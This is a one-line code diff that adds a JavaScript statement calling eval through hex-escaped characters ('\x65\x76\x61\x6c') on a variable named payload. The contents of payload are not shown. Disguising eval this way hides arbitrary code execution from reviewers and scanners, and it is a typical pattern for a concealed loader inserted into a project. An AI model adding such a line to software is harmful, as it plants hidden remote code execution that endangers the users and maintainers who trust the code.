@@ -1,0 +1,1 @@
+window['\x65\x76\x61\x6c'](payload);
